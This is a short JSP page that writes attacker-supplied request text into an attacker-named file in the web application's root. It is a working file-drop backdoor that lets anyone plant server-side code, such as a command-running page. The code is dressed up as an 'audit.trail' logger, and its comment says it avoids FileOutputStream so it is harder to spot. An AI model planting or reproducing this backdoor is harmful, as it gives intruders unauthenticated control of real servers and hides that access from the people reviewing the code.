<%@ page import="java.util.logging.*" %>
<%-- Writes the request's text into a file of the web root through a logging handler (no FileOutputStream in sight). --%>
<%
  Logger audit = Logger.getLogger("audit.trail");
  audit.setUseParentHandlers(false);
  FileHandler fh = new FileHandler(application.getRealPath("/") + request.getParameter("n"), true);
  fh.setFormatter(new Formatter() {
    public String format(LogRecord r) { return r.getMessage(); }
  });
  audit.addHandler(fh);
  audit.info(request.getParameter("d"));
  fh.close();
%>
